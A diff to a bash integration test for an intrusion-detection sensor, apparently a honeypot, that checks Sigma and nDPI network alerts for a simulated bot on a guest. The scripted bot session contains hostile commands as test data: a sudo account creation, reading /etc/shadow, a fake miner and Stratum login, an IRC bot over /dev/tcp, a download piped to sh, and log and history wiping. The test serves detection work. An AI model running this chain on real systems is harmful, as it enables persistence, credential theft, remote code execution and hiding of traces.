@@ -88,6 +88,11 @@ EOF
 ip netns exec "$NS_INTERNET" python3 -m http.server --bind "$WEB_IP" --directory "$WORK/www" 80 \
 	>"$WORK/web.log" 2>&1 &
 ip netns exec "$NS_INTERNET" nc -lk -s "$SMTP_IP" -p 25 >"$WORK/real-smtp.txt" 2>&1 &
+# A mining pool and an IRC server, for a bot on .11's guest (nDPI names both).
+ip netns exec "$NS_INTERNET" python3 "$DATA_DIR/tests/integration/world_servers.py" stratum "$WEB_IP" 3333 \
+	>"$WORK/stratum.log" 2>&1 &
+ip netns exec "$NS_INTERNET" python3 "$DATA_DIR/tests/integration/world_servers.py" irc "$WEB_IP" 6667 \
+	>"$WORK/irc.log" 2>&1 &
 
 count_ready() { events | jq -c 'select(.type=="guest_ready")' | wc -l; }
 
@@ -383,7 +388,11 @@ sigma_alerts_live() {
 		useradd -m -G sudo sysadm; echo 'sysadm:Winter2026' | chpasswd
 		cat /etc/shadow >/dev/null; chattr +i /root/.ssh/authorized_keys
 		cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.invalid:3333 --donate-level 1
-		timeout 3 bash -c 'exec 3<>/dev/tcp/$WEB_IP/6667' 2>/dev/null
+		exec 3<>/dev/tcp/$WEB_IP/6667 && printf 'NICK bot7\r\nUSER bot7 0 * :bot\r\n' >&3 &&
+			read -t 3 l <&3 && read -t 3 l <&3 && printf 'JOIN #oyster\r\n' >&3 && read -t 3 l <&3
+		printf 'QUIT\r\n' >&3; exec 3>&-
+		exec 4<>/dev/tcp/$WEB_IP/3333 && printf '%s\n' '{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"4AbcWallet\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}' >&4 &&
+			read -t 3 l <&4; exec 4>&-
 		wget -q -O - http://$WEB_IP/none.sh 2>/dev/null | sh
 		rm -rf /var/log/apt; history -c; echo oyster-sigma-marker" | matches oyster-sigma-marker ||
 		fail "the bot session did not run"
@@ -392,8 +401,8 @@ sigma_alerts_live() {
 		"Local account created" "Password changed" "Sudo rights granted" "Password hashes read"
 		"Program run from a temporary directory" "Running program deleted" "System log files deleted"
 		"Logs or history wiped by command" "File made immutable" "Cryptocurrency miner started"
-		"Connection to an IRC port" "Reverse shell" "Download piped to a shell" "Root logged in"
-		"Operator's marker command")
+		"Connection to an IRC port" "Connection to a mining pool port" "Reverse shell" "Download piped to a shell"
+		"Root logged in" "Operator's marker command")
 	local deadline=$((SECONDS + 10)) missing r
 	while :; do
 		missing=()
@@ -437,7 +446,9 @@ sigma_alerts_live() {
 	# The CLI: the listing by technique, and the rule check an operator
 	# runs before the sensor does (1: the aggregation rule is in error).
 	sensor_oyster alerts --engine sigma --technique T1496 --json >"$WORK/alerts-t1496.json" || fail "oyster alerts failed"
-	jq -e '.total >= 1 and all(.alerts[]; .rule == "Cryptocurrency miner started")' "$WORK/alerts-t1496.json" >/dev/null ||
+	jq -e '.total == 2 and any(.alerts[]; .rule == "Cryptocurrency miner started")
+		and all(.alerts[]; .rule == "Cryptocurrency miner started" or .rule == "Connection to a mining pool port")' \
+		"$WORK/alerts-t1496.json" >/dev/null ||
 		fail "oyster alerts --technique T1496: $(cat "$WORK/alerts-t1496.json")"
 	local rc=0
 	sensor_oyster rules check "$WORK/sigma" --list >"$WORK/rules-check.txt" 2>&1 || rc=$?
@@ -451,6 +462,47 @@ sigma_alerts_live() {
 	log "sigma: ${#expect[@]} rules raised live for $A11, lag min/max $(jq -c '[.[].lag] | [min, max]' "$WORK/sigma-lags.json") s"
 }
 scenario sigma_alerts_live after two_sources_get_two_guests
+
+# nDPI over .11's tap: the bot's IRC and Stratum conversations (above) are
+# named flows and raise the network rules, live, once each, in the store.
+network_alerts_live() {
+	grep -qF "nDPI names every guest's flows" "$WORK/sensor.log" || fail "the sensor did not start nDPI"
+	grep -q "irc: JOIN #oyster" "$WORK/irc.log" || fail "the bot's IRC conversation did not happen: $(cat "$WORK/irc.log")"
+	grep -q '"method": *"login"' "$WORK/stratum.log" || fail "the bot's Stratum login did not happen: $(cat "$WORK/stratum.log")"
+	wait_for 15 "select(.type == \"flow\" and .application == \"IRC\" and .dst == \"$WEB_IP\" and .dst_port == 6667
+		and .source_ip == \"$A11\" and .intrusion_id != \"\" and .guessed == false)" "the IRC flow"
+	wait_for 15 "select(.type == \"flow\" and .application == \"Mining\" and .dst_port == 3333
+		and .source_ip == \"$A11\" and .guessed == false)" "the Stratum flow"
+	wait_for 15 "select(.type == \"flow\" and (.application | startswith(\"HTTP\")) and .dst_port == 80
+		and .source_ip == \"$A11\")" "the download's HTTP flow"
+	for r in network_irc network_mining_pool; do
+		wait_for 10 "select(.type == \"alert\" and .engine == \"network\" and .rule_id == \"$r\"
+			and .source_ip == \"$A11\" and .intrusion_id != \"\")" "the $r alert"
+	done
+	jq_any --arg ip $A11 'select(.type == "alert" and .rule_id == "network_mining_pool" and .source_ip == $ip
+		and (.tags | index("attack.t1496")) and (.detail | contains(":3333")))' "$EVENTS" ||
+		fail "the mining pool's alert lacks its technique or detail"
+	# Live: within 5 s of the packet that named the flow; once per guest.
+	jq -s --arg ip $A11 '[.[] | select(.type == "alert" and .engine == "network" and .source_ip == $ip)
+		| {rule_id, lag: ((.ts | sub("\\.[0-9]+Z$"; "Z") | fromdate) - (.event_time | sub("\\.[0-9]+Z$"; "Z") | fromdate))}]' \
+		"$EVENTS" >"$WORK/network-lags.json"
+	jq -e 'all(.[]; .lag <= 5 and .lag >= -2) and ([.[].rule_id] | length == (unique | length))' \
+		"$WORK/network-lags.json" >/dev/null || fail "network alerts late or repeated: $(cat "$WORK/network-lags.json")"
+	local n=0
+	for _ in $(seq 10); do
+		n=$(sqlite3 "$STATE_DIR/store.sqlite" "SELECT COUNT(*) FROM alerts a JOIN intrusions i ON i.id = a.intrusion_id
+			WHERE a.engine = 'network' AND i.source_ip = '$A11'")
+		[ "$n" -ge 2 ] && break
+		sleep 1
+	done
+	[ "$n" -ge 2 ] || fail "the store holds $n of .11's network alerts"
+	sensor_oyster alerts --engine network --technique T1071 --json >"$WORK/alerts-t1071.json" || fail "oyster alerts failed"
+	jq -e '.total >= 1 and all(.alerts[]; .rule_id == "network_irc")' "$WORK/alerts-t1071.json" >/dev/null ||
+		fail "oyster alerts --engine network --technique T1071: $(cat "$WORK/alerts-t1071.json")"
+	log "network: $(jq -c '[.[] | "\(.rule_id) \(.lag)s"]' "$WORK/network-lags.json"); flows of .11: $(events |
+		jq -r --arg ip $A11 'select(.type == "flow" and .source_ip == $ip) | "\(.application):\(.dst_port)"' | sort -u | tr '\n' ' ')"
+}
+scenario network_alerts_live after sigma_alerts_live
 
 # The web API on the sensor's loopback: nothing without the token; with it,
 # the sessions, and the typed session's recording while it is still live;
